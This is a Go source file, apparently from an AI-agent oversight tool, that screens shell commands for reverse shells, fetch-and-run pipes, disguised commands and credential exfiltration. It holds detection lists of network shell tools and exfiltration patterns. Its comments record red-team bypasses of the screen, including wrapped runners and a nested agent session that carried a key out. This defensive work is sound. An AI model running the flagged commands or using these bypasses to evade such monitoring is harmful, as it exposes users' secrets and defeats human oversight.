// Package cmdrisk judges a shell command line before it runs: whether it
// disguises what it runs, opens a shell for someone on the network, runs
// code fetched from the network, sends local files or the environment to
// another host, or reaches a cloud metadata service or a disguised
// internal address. It also reports what a sensitive-read-then-send chain
// needs: the credential files and environment the line reads, and whether
// it reaches the network at all.
//
// It reads the line as the shell would (shellnorm), so quotes, escapes,
// variables set on the line, $'…' and decoded pipelines change nothing.
// It is pure, and linear in the line's size per nesting level.
package cmdrisk

import (
	"fmt"
	"slices"
	"strings"

	"github.com/flowd-dev/flowd/internal/secretfile"
	"github.com/flowd-dev/flowd/internal/shellnorm"
	"github.com/flowd-dev/flowd/internal/ssrf"
)

// Rules of findings.
const (
	Disguised       = "disguised_command"
	ReverseShell    = "reverse_shell"
	RemoteCode      = "remote_code"
	UploadSecret    = "sends_secret"
	Upload          = "sends_file"
	InternalAddress = "internal_address"
	Unscreened      = "too_long_to_screen"
	NestedAgent     = "nested_agent"
	// WidensAgent: an agent's settings written to let it do more
	// without asking, or start servers and plugins unasked.
	WidensAgent = "widens_agent"
)

// agentPrompts are agent CLIs and the arguments that give one a task to
// run on its own: a new agent session, which starts knowing nothing of
// what this one read.
var agentPrompts = map[string][]string{
	"claude": {"-p", "--print"}, "codex": {"exec", "e"}, "gemini": {"-p", "--prompt", "-i", "--prompt-interactive"},
	"cursor-agent": {"-p", "--print"}, "aider": {"-m", "--message", "--message-file"}, "goose": {"run"},
	"opencode": {"run"}, "amp": {"-x", "--execute"}, "qwen": {"-p", "--prompt"}, "crush": {"run"},
}

// Finding is one risk a command line carries.
type Finding struct {
	Rule string
	// Severe: there is no honest reason for an agent to run it (deny);
	// otherwise it has honest uses the user should confirm (ask).
	Severe bool
	Reason string
}

// Report is what Screen found.
type Report struct {
	Findings []Finding
	// Network: the line talks to other hosts; Local: it has network
	// commands that talk only to this machine or its network.
	Network, Local bool
	// Reads are the credential files and environment the line reads, as
	// "path (what it is)".
	Reads []string
	// Sends are the local files the line sends to another host, as
	// written on it: a session that knows one of them holds a secret
	// judges the line by that.
	Sends []string
	// Downloads are the local files the line writes what it fetches
	// into (curl -o, wget -O, a fetcher's > redirect), as written on it:
	// what is read from them later came from outside.
	Downloads []string
	// took and reached carry a nested line's flow to the line that
	// holds it (flow).
	took    []string
	reached string
}

// Worst returns the most serious finding, severe first.
func (r Report) Worst() (Finding, bool) {
	for _, f := range r.Findings {
		if f.Severe {
			return f, true
		}
	}
	if len(r.Findings) > 0 {
		return r.Findings[0], true
	}
	return Finding{}, false
}

// Screen judges a command line.
func Screen(cmd string) Report { return screenLine(cmd, false, 0, newNestedRoom(cmd)) }

// ScreenUnwatched judges a command line that runs where no hook sees
// it: written to a crontab, an agent's settings or a skill, it runs
// later and outside any session, so a credential file it sends to this
// machine or its network (a forwarded port, a tunnel, a relay) is
// refused like one sent anywhere else.
func ScreenUnwatched(cmd string) Report { return screenLine(cmd, true, 0, newNestedRoom(cmd)) }

// maxNested bounds how deep screenLine reads command lines held in
// arguments.
const maxNested = 3

// nestedRoom bounds the bytes of arguments read as command lines of
// their own, over all depths of one screening, and reads each distinct
// argument once: a variable's value expands into every word that names
// it ("$v" "$v" …), so the words of each depth could hold the line many
// times over, and each depth multiply the work (found by a red team: a
// 2.3 KB line took 100 s).
type nestedRoom struct {
	left int
	seen map[string]bool
}

// newNestedRoom gives the arguments of cmd four times its length, and at
// least 16 KiB: an honest line's quoted commands are part of it.
func newNestedRoom(cmd string) *nestedRoom {
	return &nestedRoom{left: max(4*len(cmd), 16<<10), seen: map[string]bool{}}
}

func screenLine(cmd string, unwatched bool, depth int, room *nestedRoom) Report {
	if strings.TrimSpace(cmd) == "" {
		return Report{}
	}
	l := shellnorm.Parse(cmd)
	s := &screen{l: l, unwatched: unwatched}
	if len(cmd) > shellnorm.MaxInput {
		// What lies past the bound is unread: padding must not hide it.
		s.add(Unscreened, true, fmt.Sprintf("the command line is %d bytes, past the %d flowd reads; no agent needs one that long", len(cmd), shellnorm.MaxInput))
	}
	if len(l.Tricks) > 0 {
		var ts []string
		for _, t := range l.Tricks {
			ts = append(ts, fmt.Sprintf("%s (%q)", t.Trick, t.Word))
		}
		s.add(Disguised, true, "the command line disguises what it runs: "+strings.Join(ts, "; ")+
			fmt.Sprintf("; read plainly it runs: %s", clip(strings.ReplaceAll(strings.TrimSpace(l.Text()), "\n", "; "))))
	}
	s.loads = loading(l)
	for i := range l.Commands {
		s.command(i)
	}
	s.addresses()
	if depth < maxNested {
		s.nested(unwatched, depth, room)
	}
	s.flow()
	return s.r
}

// nested screens each argument that holds words as a command line of
// its own: any program may run one (nice … sh -c '…', watch '…',
// script -qc '…', ssh host '…', su -c '…', docker run … sh -c '…',
// parallel ::: '…', expect's spawn), and a list of the runners would
// never be whole (found by a red team: a denied send passed under 30 of
// 30 runners, RT7-20). A text that is no command (a commit message)
// names no credential file sent to a host, so it adds nothing.
func (s *screen) nested(unwatched bool, depth int, room *nestedRoom) {
	for _, c := range s.l.Commands {
		words := c.Run()
		for _, w := range words[min(1, len(words)):] {
			if !strings.ContainsAny(w, " \t\n") || room.seen[w] || jsonLike(w) {
				continue
			}
			if room.left -= len(w); room.left < 0 {
				// What lies past the bound is unread: it must not hide a
				// command, as padding must not (screenLine).
				s.add(Unscreened, true, "the command line expands into more command text than flowd reads; no agent needs one like it")
				return
			}
			room.seen[w] = true
			in := screenLine(w, unwatched, depth+1, room)
			for _, f := range in.Findings {
				s.add(f.Rule, f.Severe, f.Reason)
			}
			for _, r := range in.Reads {
				s.read(r)
			}
			s.r.Network = s.r.Network || in.Network
			s.r.Local = s.r.Local || in.Local
			if s.r.reached == "" {
				s.r.reached = in.reached
			}
			if !remoteRunners[name(words)] { // ssh host 'cat .env' reads a file over there
				for _, p := range in.took {
					s.take(p)
				}
			}
			for _, x := range in.Sends {
				if !slices.Contains(s.r.Sends, x) {
					s.r.Sends = append(s.r.Sends, x)
				}
			}
		}
	}
}

// jsonLike reports whether w opens as a JSON object or array does (a
// request body): data, where a shell's brace group or test opens with a
// blank after the bracket. Read as a command line, its quotes would look
// like a command name in disguise.
func jsonLike(w string) bool {
	t := strings.TrimLeft(w, " \t\n")
	return len(t) > 1 && (t[0] == '{' || t[0] == '[') && t[1] != ' ' && t[1] != '\t' && t[1] != '\n'
}

type screen struct {
	l shellnorm.Line
	r Report
	// unwatched: no address is local (ScreenUnwatched).
	unwatched bool
	// loads are the commands whose output a command loads into the
	// environment (export $(grep -v ^# .env | xargs)), by index.
	loads map[int]bool
	// loaded are the credential files the line loads into its
	// environment (source .env), as "path (what it is)".
	loaded []string
}

func (s *screen) add(rule string, severe bool, reason string) {
	for _, f := range s.r.Findings {
		if f.Rule == rule {
			return
		}
	}
	s.r.Findings = append(s.r.Findings, Finding{Rule: rule, Severe: severe, Reason: reason})
}

func (s *screen) read(what string) {
	if !slices.Contains(s.r.Reads, what) && len(s.r.Reads) < 8 {
		s.r.Reads = append(s.r.Reads, what)
	}
}

// netCommands talk to other hosts; the value says whether the command
// name alone is a raw socket (whose stdin goes out as is).
var netCommands = map[string]bool{
	"curl": false, "wget": false, "wget2": false, "http": false, "https": false, "xh": false, "httpie": false,
	"aria2c": false, "lynx": false, "ssh": false, "scp": false, "sftp": false, "rsync": false, "ftp": false,
	"tftp": false, "lftp": false, "smbclient": false, "dig": false, "nslookup": false, "host": false, "ping": false,
	"drill": false, "kdig": false, "delv": false, "resolve-dnsname": false, "whois": false, "traceroute": false, "mtr": false,
	"nc": true, "ncat": true, "netcat": true, "socat": true, "telnet": true, "openssl": true, "websocat": true,
	"invoke-webrequest": false, "iwr": false, "invoke-restmethod": false, "irm": false,
}

// offline reports whether a command of a network program talks to no
// host: openssl x509 and req sign certificates, and their file names
// (ca.pem, server.key) are no hosts.
func offline(words []string) bool {
	if name(words) != "openssl" || len(words) < 2 {
		return false
	}
	switch words[1] {
	case "s_client", "s_server", "s_time", "ocsp":
		return false
	}
	return true
}

// fetchers print what they download, which a pipe can run.
var fetchers = map[string]bool{"curl": true, "wget": true, "wget2": true, "http": true, "https": true, "xh": true,
	"iwr": true, "invoke-webrequest": true, "irm": true, "invoke-restmethod": true, "nc": true, "ncat": true,
	"netcat": true, "socat": true, "telnet": true, "openssl": true, "fetch": true, "lwp-download": true}

// interpreters run a program given on stdin, as a file or as an argument.
func interpreter(name string) bool {
	if shellnorm.IsShell(name) {
		return true
	}
	for _, p := range []string{"python", "perl", "ruby", "node", "php", "lua", "pwsh", "powershell", "deno", "bun", "tclsh", "osascript"} {
		if name == p || strings.HasPrefix(name, p) && strings.Trim(name[len(p):], "0123456789.") == "" {
			return true
		}
	}
	return name == "source" || name == "." || name == "iex" || name == "invoke-expression" || name == "eval"
}

// readers print or copy the files they are given.
var readers = map[string]bool{"cat": true, "less": true, "more": true, "head": true, "tail": true, "base64": true,
	"base32": true, "xxd": true, "od": true, "hexdump": true, "strings": true, "cp": true, "tar": true, "zip": true,
	"gzip": true, "bzip2": true, "xz": true, "grep": true, "rg": true, "awk": true, "sed": true, "sort": true,
	"tac": true, "nl": true, "jq": true, "yq": true, "openssl": true, "gpg": true, "source": true, ".": true,
	"scp": true, "rsync": true, "curl": true, "wget": true, "nc": true, "ncat": true, "netcat": true, "type": true,
	"get-content": true, "gc": true, "bat": true, "view": true, "vim": true, "nano": true, "dd": true}

// envDumps print the environment.
func envDump(words []string) bool {
	switch name(words) {
	case "env", "printenv":
		for _, w := range words[1:] {
			if !strings.HasPrefix(w, "-") {
				return name(words) == "printenv" && secretName(w)
			}
		}
		return true
	case "set":
		return len(words) == 1 // set -x traces, set -e stops on errors
	case "export", "declare", "typeset":
		return len(words) == 1 || len(words) == 2 && (words[1] == "-p" || words[1] == "-x")
	}
	return false
}

// secretName reports whether an environment variable's name says it holds
// a credential.
func secretName(v string) bool {
	v = strings.ToUpper(v)
	for _, w := range []string{"KEY", "TOKEN", "SECRET", "PASS", "CREDENTIAL", "AUTH", "PRIVATE", "SESSION", "COOKIE", "DSN", "DATABASE_URL"} {
		if strings.Contains(v, w) {
			return true
		}
	}
	return false
}

func name(words []string) string {
	if len(words) == 0 {
		return ""
	}
	n := strings.ToLower(words[0])
	if i := strings.LastIndexByte(n, '/'); i >= 0 {
		n = n[i+1:]
	}
	return strings.TrimSuffix(n, ".exe")
}

// command judges one simple command.
func (s *screen) command(i int) {
	c := s.l.Commands[i]
	words := c.Run()
	n := name(words)
	for _, r := range c.Redirects {
		target := strings.TrimLeft(r, "<>&|")
		if strings.HasPrefix(target, "/dev/tcp/") || strings.HasPrefix(target, "/dev/udp/") {
			s.r.Network = true
			if shellnorm.IsShell(n) || n == "exec" || interpreter(n) {
				s.add(ReverseShell, true, fmt.Sprintf("%s connects a shell to %s: whoever listens there controls this machine", n, target))
			}
		}
		if strings.HasPrefix(r, "<") {
			s.sensitive(target)
		}
	}
	if n == "" {
		s.flowOf(i, c, words, n) // $(< .env)
		return
	}
	if raw, ok := netCommands[n]; ok && !offline(words) {
		s.net(i, c, words, raw)
	}
	if fetchers[n] {
		s.downloads(c, words, n)
	}
	if archive := shellnorm.RemoteArchive(n, words[1:]); archive != "" {
		// tar -cf host:path FILES… sends the files to that host.
		s.r.Network = true
		var sent []string
		for j, a := range words[1:] {
			if strings.HasPrefix(a, "-") || a == archive || j == 0 && strings.HasSuffix(a, "f") { // tar cf ARCHIVE
				continue
			}
			sent = append(sent, s.pathSource(a))
		}
		s.secretSent(n, archive, sent)
	}
	if n == "gh" {
		s.gh(words)
	}
	s.credentialOut(c, words, n)
	if flags, ok := agentPrompts[n]; ok && slices.ContainsFunc(words[1:], func(a string) bool {
		return slices.Contains(flags, a) || slices.ContainsFunc(flags, func(f string) bool { return strings.HasPrefix(a, f+"=") })
	}) {
		// What the session read goes with the task, and the new
		// session's hooks start with none of it: found by a red team
		// (RT7-5), a key read here left through the nested agent.
		s.add(NestedAgent, false, n+" starts another agent session on a task of this one's: flowd judges it afresh, without what this session read")
	}
	if readers[n] {
		for _, a := range words[1:] {
			if !strings.HasPrefix(a, "-") || strings.Contains(a, "=") {
				s.sensitive(strings.TrimPrefix(a[strings.IndexByte(a, '=')+1:], "@"))
			}
		}
	}
	if envDump(words) {
		s.read("the environment (" + strings.Join(words, " ") + ")")
	}
	if what := SecretStore(words); what != "" {
		s.read(strings.Join(words, " ") + " (" + what + ")")
	}
	for _, w := range words[1:] {
		if strings.HasPrefix(w, "/proc/") && strings.HasSuffix(w, "/environ") {
			s.read(w + " (a process environment)")
		}
	}
	if interpreter(n) {
		s.interpreter(i, c, words, n)
	} else if c.Stdin != "" {
		s.writtenText(c, n)
	}
	s.flowOf(i, c, words, n)
}

// writtenText judges a here-document a command writes to a file (cat >
// .git/config <<EOF, tee Dockerfile <<EOF) as a write of that text
// (Embedded): refused where a later command runs it, asked about
// elsewhere.
func (s *screen) writtenText(c shellnorm.Command, n string) {
	var to []string
	for _, r := range c.Redirects {
		if strings.HasPrefix(r, ">") && !strings.HasPrefix(r, ">&") {
			to = append(to, strings.TrimLeft(r, ">|"))
		}
	}
	if n == "tee" {
		to = append(to, operands(c.Run()[1:])...)
	}
	if len(to) == 0 {
		return
	}
	for _, f := range Embedded(c.Stdin) {
		severe := false
		for _, p := range to {
			severe = severe || RunLater(p, c.Stdin) != "" || RunsOnItsOwn(p) != ""
		}
		s.add(f.Rule, severe, "the text written to "+strings.Join(to, ", ")+": "+f.Reason)
	}
}

// sensitive notes a path the line reads if it holds credentials.
func (s *screen) sensitive(p string) {
	if why := secretfile.Why(p); why != "" {
		s.read(p + " (" + why + ")")
	}
}

// net judges a command that talks to other hosts: what it sends, and
// whether it is a shell's socket.
func (s *screen) net(i int, c shellnorm.Command, words []string, raw bool) {
	n := name(words)
	dest := destination(words)
	local := s.local(dest)
	if local {
		s.r.Local = true
	} else {
		s.r.Network = true
	}
	if raw {
		for _, a := range words[1:] {
			la := strings.ToLower(a)
			if a == "-e" || a == "-c" || strings.HasPrefix(a, "--exec") || strings.HasPrefix(a, "--sh-exec") || strings.HasPrefix(a, "--lua-exec") ||
				n == "socat" && (strings.HasPrefix(la, "exec:") || strings.HasPrefix(la, "system:")) {
				s.add(ReverseShell, true, fmt.Sprintf("%s %s hands a shell or program to a network connection: whoever is at the other end controls this machine", n, a))
				return
			}
		}
	}
	if local {
		return // a request to this machine or its network sends nothing out
	}
	var sent []string
	wrapped := len(c.Words) - len(words) // c.Substituted counts the wrappers' words
	for j := range words[1:] {
		if v, at, ok := dataValue(n, words[1:], j); ok {
			sent = append(sent, s.dataSources(c, wrapped+1+at, v)...)
		}
	}
	if raw || n == "curl" && (slices.Contains(words, "-T") || slices.Contains(words, "--upload-file")) || n == "scp" || n == "rsync" {
		if raw {
			for _, r := range c.Redirects {
				if strings.HasPrefix(r, "<") {
					sent = append(sent, s.pathSource(strings.TrimLeft(r, "<")))
				}
			}
		}
		if n == "scp" || n == "rsync" {
			for j, a := range words[1 : len(words)-1] {
				if !strings.HasPrefix(a, "-") && !strings.Contains(a, ":") && !authOption(words[j]) && !strings.ContainsAny(a, " \t") { // scp -i key; rsync -e "ssh -i key"
					sent = append(sent, s.pathSource(a))
				}
			}
		}
	}
	if c.PipedFrom >= 0 && (raw || pipesStdin(n, words)) {
		sent = append(sent, s.fed(c.PipedFrom, 0)...)
	}
	s.judgeSent(n, dest, sent)
}

// judgeSent turns what a command sends into a finding.
func (s *screen) judgeSent(n, dest string, sent []string) {
	var secret, plain []string
	for _, x := range sent {
		if x == "" {
			continue
		}
		if strings.HasSuffix(x, ")") {
			secret = append(secret, x)
		} else {
			plain = append(plain, x)
		}
	}
	to := ""
	if dest != "" {
		to = " to " + clip(dest)
	}
	switch {
	case len(secret) > 0:
		s.add(UploadSecret, true, fmt.Sprintf("%s sends %s%s", n, strings.Join(secret, ", "), to))
	case len(plain) > 0:
		s.add(Upload, false, fmt.Sprintf("%s sends local data (%s)%s", n, clip(strings.Join(plain, ", ")), to))
	}
}

// services are programs whose work is talking to a service on another
// host: what they are handed goes there (a cloud bucket, a code host, a
// package index, a mail relay, an ssh server).
var services = map[string]bool{"ssh": true, "gh": true, "glab": true, "aws": true, "gcloud": true, "gsutil": true,
	"az": true, "azcopy": true, "rclone": true, "s3cmd": true, "twine": true, "mail": true, "mailx": true, "sendmail": true,
	"mutt": true, "msmtp": true, "swaks": true}

// credentialOut refuses, whatever the program, a command that names a
// credential file it sends (an operand, an @file value, a non-credential
// option's value, stdin) and reaches another host (a URL, a remote spec,
// an address, or a program that talks to a service). A credential file
// given to authenticate (ssh -i, --key-file, --kubeconfig, --env-file)
// or to receive a download (-o, or the last operand after a remote
// source) is not sent.
func (s *screen) credentialOut(c shellnorm.Command, words []string, n string) {
	dest, remote := s.reaches(words, n)
	if !remote {
		return
	}
	var sent []string
	note := func(p string) {
		if secretfile.Why(p) != "" {
			sent = append(sent, s.pathSource(p))
		}
	}
	for _, r := range c.Redirects {
		if strings.HasPrefix(r, "<") && !strings.HasPrefix(r, "<<") {
			note(strings.TrimLeft(r, "<"))
		}
	}
	if c.PipedFrom >= 0 && n != "curl" && n != "wget" { // curl and wget send stdin only when told (net)
		for _, x := range s.fed(c.PipedFrom, 0) {
			if strings.HasSuffix(x, ")") {
				sent = append(sent, x)
			}
		}
	}
	for _, p := range namedFiles(n, words[1:]) {
		note(p)
	}
	s.secretSent(n, dest, sent)
}

// namedFiles returns the files the arguments of n name for it to read
// or send: operands, an @file value, a non-credential option's value.
// A file given to authenticate (ssh -i, --key-file, --kubeconfig,
// --env-file), to receive output (-o) or a download (the last operand
// after a remote source), or that lies on another host, is left out.
func namedFiles(n string, args []string) []string {
	var out []string
	note := func(p string) { out = append(out, p) }
	uploads := slices.ContainsFunc(args, func(a string) bool {
		return a == "put" || a == "upload" || a == "push" || a == "send" || strings.HasPrefix(a, "--upload") || a == "-u" && strings.HasSuffix(n, "ftp")
	})
	last := len(args) - 1
	for last >= 0 && strings.HasPrefix(args[last], "-") {
		last--
	}
	for j, a := range args {
		if p := atFile(a); p != "" {
			note(p) // -F body=@.env, httpie's @.env and field=@.env, --data-urlencode d@.env
			continue
		}
		if strings.ContainsAny(a, " \t\n") {
			// A client's own command language: smbclient -c "put .env",
			// lftp -e "put .env".
			f := strings.Fields(a)
			for k := 1; k < len(f); k++ {
				if v := strings.ToLower(f[k-1]); v == "put" || v == "mput" || v == "append" || v == "send" {
					note(f[k])
				}
			}
			continue
		}
		if strings.HasPrefix(a, "--") {
			if k := strings.IndexByte(a, '='); k > 0 && !authOption(a[:k]) {
				note(a[k+1:])
			}
			continue
		}
		if strings.HasPrefix(a, "-") || j > 0 && !strings.Contains(args[j-1], "=") && authOption(args[j-1]) {
			continue
		}
		if j == last && !uploads && slices.ContainsFunc(args[:j], remoteSpec) {
			continue // cp s3://b/.env .env: a download
		}
		if !remoteSpec(a) { // host:.env is a file over there
			note(a)
		}
	}
	return out
}

// authOption reports whether an option's value is a file the program
// reads to authenticate, writes its output to or leaves out (--exclude),
// not one it sends.
func authOption(opt string) bool {
	if !strings.HasPrefix(opt, "-") {
		return false
	}
	o := strings.ToLower(strings.TrimLeft(opt, "-"))
	if len(o) == 1 {
		return strings.Contains("iEKoOFcw", opt[len(opt)-1:])
	}
	return containsAny(o, []string{"key", "cert", "ca", "identity", "config", "cred", "auth", "token", "pass", "netrc",
		"env", "vault", "kube", "profile", "out", "dump", "cookie", "trust", "jar", "save", "log", "exclude", "ignore", "skip"})
}

// reaches reports whether a command talks to another host, and where.
func (s *screen) reaches(words []string, n string) (string, bool) {
	dest := ""
	for _, a := range words[1:] {
		if k := strings.IndexByte(a, '='); strings.HasPrefix(a, "--") && k > 0 {
			a = a[k+1:]
		}
		if _, ok := remoteWord(a); ok && !s.local(a) {
			return a, true
		}
	}
	if _, ok := netCommands[n]; ok && !offline(words) {
		dest = destination(words)
		return dest, !s.local(dest)
	}
	if services[n] || n == "git" && slices.Contains(words, "send-email") {
		return n, true
	}
	return "", false
}

// local reports whether a destination (a URL, user@host:path, a host)
// is this machine or its network, where a request sends nothing out.
func (s *screen) local(dest string) bool {
	if s.unwatched || dest == "" {
		return false
	}
	t, ok := ssrf.Host(hostOf(dest))
	return ok && t.Kind != ssrf.Metadata && t.Disguised == ""
}

// remoteWord returns the host a word names as a place on another host:
// a URL (s3://, gs://, https://…), an SMB share (//host/share), a
// user@host address, or host:path with a dotted host.
func remoteWord(a string) (string, bool) {
	if i := strings.Index(a, "://"); i > 0 && !strings.HasPrefix(strings.ToLower(a), "file:") {
		return hostOf(a), true
	}
	if strings.HasPrefix(a, "//") && len(a) > 2 && a[2] != '/' {
		h, _, _ := strings.Cut(a[2:], "/")
		return h, true
	}
	if strings.ContainsAny(a, " /") && !strings.Contains(a, ":") || strings.HasPrefix(a, "-") || strings.HasPrefix(a, "@") {
		return "", false
	}
	if at := strings.IndexByte(a, '@'); at > 0 {
		h := hostOf(a)
		if strings.Contains(h, ".") && !strings.ContainsAny(h, "/=") {
			return h, true
		}
	}
	if c := strings.IndexByte(a, ':'); c > 0 && !strings.ContainsAny(a[:c], "/=@") && strings.Contains(a[:c], ".") && !strings.HasPrefix(a, ".") {
		return a[:c], true
	}
	return "", false
}

// remoteSpec reports whether an operand names a place elsewhere: a
// remote word, or a program's own remote (rclone's remote:path).
func remoteSpec(a string) bool {
	if _, ok := remoteWord(a); ok {
		return true
	}
	c := strings.IndexByte(a, ':')
	return c > 1 && !strings.HasPrefix(a, "-") && !strings.ContainsAny(a[:c], "/=@ ")
}

// gh judges the GitHub CLI's commands that upload local files: a gist
// (public or secret, both readable by anyone with the link) and a release
// asset.
func (s *screen) gh(words []string) {
	if len(words) < 3 {
		return
	}
	var files []string
	switch sub := words[1] + " " + words[2]; sub {
	case "gist create", "gist new", "gist edit":
		files = operands(words[3:], "-d", "--desc", "--description", "-f", "--filename", "-a", "--add", "-r", "--remove")
		if sub == "gist edit" && len(files) > 0 {
			files = files[1:] // the gist's id
		}
	case "release upload", "release create":
		files = operands(words[3:], "-R", "--repo", "-t", "--title", "-n", "--notes", "-F", "--notes-file", "--target", "--discussion-category")
		if len(files) > 0 {
			files = files[1:] // the tag
		}
	default:
		return
	}
	s.r.Network = true
	var sent []string
	for _, f := range files {
		if f != "-" {
			sent = append(sent, s.pathSource(strings.SplitN(f, "#", 2)[0]))
		}
	}
	s.secretSent("gh "+words[1]+" "+words[2], "GitHub", sent)
}

// secretSent refuses a command that sends a credential file. One that
// sends another file is left to the session's judgement (Sends): a gist
// of notes, or a script posting a report, is ordinary work unless the
// session saw a secret in that file.
func (s *screen) secretSent(n, dest string, sent []string) {
	for _, x := range sent {
		if strings.HasSuffix(x, ")") {
			s.judgeSent(n, dest, []string{x})
		}
	}
}

// operands are the words that are not options or their values.
func operands(args []string, valued ...string) []string {
	var out []string
	for j := 0; j < len(args); j++ {
		a := args[j]
		switch {
		case slices.Contains(valued, a):
			j++
		case strings.HasPrefix(a, "-"):
		default:
			out = append(out, a)
		}
	}
	return out
}

// pipesStdin reports whether a network command sends what is piped into
// it: curl -d @-, --data-binary @-, -T -, wget --post-file=/dev/stdin.
func pipesStdin(n string, words []string) bool {
	for _, w := range words[1:] {
		if w == "@-" || strings.HasSuffix(w, "=@-") || w == "-" && n == "curl" || strings.Contains(w, "/dev/stdin") {
			return true
		}
	}
	return false
}

// dataFlags are the options whose value a command sends: its text
// ("@file" and "<file" name files in it), or, for pathFlags, a file.
var dataFlags = map[string]map[string]bool{
	"curl": {"-d": true, "--data": true, "--data-binary": true, "--data-raw": true, "--data-ascii": true,
		"--data-urlencode": true, "-F": true, "--form": true, "--form-string": true, "-T": true, "--upload-file": true,
		"--json": true},
	"wget": {"--post-file": true, "--body-file": true, "--post-data": true, "--body-data": true},
}

var pathFlags = map[string]bool{"-T": true, "--upload-file": true, "--post-file": true, "--body-file": true}

// dataValue returns the value of a data option at args[j], if it is
// one, and the index in args of the word that holds it.
func dataValue(n string, args []string, j int) (string, int, bool) {
	a := args[j]
	flags := dataFlags[n]
	if n == "http" || n == "https" || n == "xh" || n == "httpie" {
		if k := strings.Index(a, "@"); k > 0 && (a[k-1] == '=' || a[k-1] == ':') {
			return a[k:], j, true
		}
		return "", 0, false
	}
	if flags == nil {
		return "", 0, false
	}
	if k := strings.IndexByte(a, '='); k > 0 && strings.HasPrefix(a, "--") && flags[a[:k]] {
		if pathFlags[a[:k]] {
			return "@" + a[k+1:], j, true
		}
		return a[k+1:], j, true
	}
	if flags[a] && j+1 < len(args) {
		if pathFlags[a] {
			return "@" + args[j+1], j + 1, true
		}
		return args[j+1], j + 1, true
	}
	if len(a) > 2 && a[0] == '-' && a[1] != '-' && flags[a[:2]] { // -d@file
		return a[2:], j, true
	}
	return "", 0, false
}

// dataSources describes where a sent value comes from: "@file" and
// "<file" name files, a substitution the commands it runs.
func (s *screen) dataSources(c shellnorm.Command, wordAt int, v string) []string {
	var out []string
	// curl reads a file for a value that starts with @ (-d @file) and
	// for a form field's @file or <file (-F doc=@a.pdf;type=…); an @
	// anywhere else is text (an e-mail address in a JSON body).
	p := ""
	switch {
	case strings.HasPrefix(v, "@"):
		p = v[1:]
	case strings.Contains(v, "=@") || strings.Contains(v, "=<"):
		k := strings.IndexAny(v, "@<")
		p = v[k+1:]
		if end := strings.IndexByte(p, ';'); end >= 0 {
			p = p[:end]
		}
	}
	if p != "" && p != "-" {
		out = append(out, s.pathSource(p))
	}
	if subs, ok := c.Substituted[wordAt]; ok {
		for _, i := range subs {
			out = append(out, s.fed(i, 0)...)
		}
	}
	for _, w := range strings.FieldsFunc(v, func(r rune) bool { return !(r == '_' || r == '$' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9') }) {
		if strings.HasPrefix(w, "$") && secretName(w[1:]) {
			// A credential's own service takes it in a body too (an
			// OAuth client secret): worth a question, not a refusal.
			out = append(out, "the variable "+w)
		}
	}
	return out
}

// pathSource names a sent file, with what it is when it holds
// credentials (the ")" at the end is how judgeSent tells them apart).
func (s *screen) pathSource(p string) string {
	if p != "" && !slices.Contains(s.r.Sends, p) && len(s.r.Sends) < 8 {
		s.r.Sends = append(s.r.Sends, p)
	}
	if why := secretfile.Why(p); why != "" {
		s.read(p + " (" + why + ")")
		return p + " (" + why + ")"
	}
	return p
}

// fed describes what the command at i, and those feeding it, output:
// files they read and environment they print.
func (s *screen) fed(i, depth int) []string {
	if i < 0 || depth > 16 {
		return nil
	}
	c := s.l.Commands[i]
	words := c.Run()
	var out []string
	n := name(words)
	switch {
	case envDump(words):
		out = append(out, strings.Join(words, " ")+" (the environment)")
	case readers[n]:
		for _, a := range words[1:] {
			if !strings.HasPrefix(a, "-") {
				out = append(out, s.pathSource(a))
			}
		}
	case n == "echo" || n == "printf":
		for _, a := range words[1:] {
			if strings.HasPrefix(a, "$") && secretName(strings.Trim(a, "${}")) {
				out = append(out, "the variable "+a)
			}
		}
	}
	for _, r := range c.Redirects {
		if strings.HasPrefix(r, "<") {
			out = append(out, s.pathSource(strings.TrimLeft(r, "<")))
		}
	}
	for _, subs := range c.Substituted {
		for _, j := range subs {
			out = append(out, s.fed(j, depth+1)...)
		}
	}
	return append(out, s.fed(c.PipedFrom, depth+1)...)
}

// destination is the argument of a network command that names where it
// connects: a URL, else a remote path (user@host:path), else the first
// word that looks like a host.
func destination(words []string) string {
	args := words[1:]
	for _, a := range args {
		if strings.Contains(a, "://") {
			return a
		}
	}
	for _, a := range args {
		if c := strings.IndexByte(a, ':'); c > 0 && !strings.ContainsAny(a[:1], "-/~.$@") && !strings.Contains(a[:c], "/") {
			return a
		}
	}
	for j, a := range args {
		if j > 0 && strings.HasPrefix(args[j-1], "-") && !strings.Contains(args[j-1], "=") {
			continue // an option's value
		}
		if a != shellnorm.Unknown && !strings.HasPrefix(a, "-") && !strings.HasPrefix(a, "@") && hostLike(a) {
			return a
		}
	}
	return ""
}

// hostLike reports whether a bare argument could be a host: a dotted
// name or address, an IPv6 literal, or a number too large to be a port
// (an address written as one integer).
func hostLike(a string) bool {
	if strings.HasPrefix(a, "[") || strings.HasPrefix(a, "0x") {
		return true
	}
	if strings.Trim(a, "0123456789") == "" {
		return len(a) > 5
	}
	return strings.Contains(a, ".") && !strings.HasPrefix(a, "/") && !strings.HasPrefix(a, "~")
}

// hostOf returns the host of a URL or user@host:path.
func hostOf(dest string) string {
	if i := strings.Index(dest, "://"); i >= 0 {
		dest = dest[i+3:]
		if j := strings.IndexAny(dest, "/?#"); j >= 0 {
			dest = dest[:j]
		}
	}
	if i := strings.LastIndexByte(dest, '@'); i >= 0 {
		dest = dest[i+1:]
	}
	if !strings.HasPrefix(dest, "[") {
		if i := strings.IndexByte(dest, ':'); i >= 0 && strings.Count(dest, ":") == 1 {
			dest = dest[:i]
		}
	}
	return dest
}

// interpreter judges a command that runs code: fed from the network by a
// pipe or a substitution, or given code that opens a shell on a socket.
func (s *screen) interpreter(i int, c shellnorm.Command, words []string, n string) {
	if c.PipedFrom >= 0 {
		if f := s.fetchedBy(c.PipedFrom, 0); f != "" && netCommands[f] && shellnorm.IsShell(n) {
			s.add(ReverseShell, true, fmt.Sprintf("%s runs what %s reads from a network connection: whoever is at the other end controls this machine", n, f))
		} else if f != "" {
			s.add(RemoteCode, false, fmt.Sprintf("%s runs code downloaded by %s, unseen by anyone before it runs", n, f))
		}
	}
	for _, subs := range c.Substituted {
		for _, j := range subs {
			if f := s.fetchedBy(j, 0); f != "" {
				s.add(RemoteCode, false, fmt.Sprintf("%s runs code downloaded by %s, unseen by anyone before it runs", n, f))
			}
		}
	}
	s.code(n, strings.Join(words[1:], " "), true)
	if c.Stdin != "" && !shellnorm.IsShell(n) {
		// python3 - <<'EOF' … EOF: the code is the here-document (a
		// shell's is read as its commands).
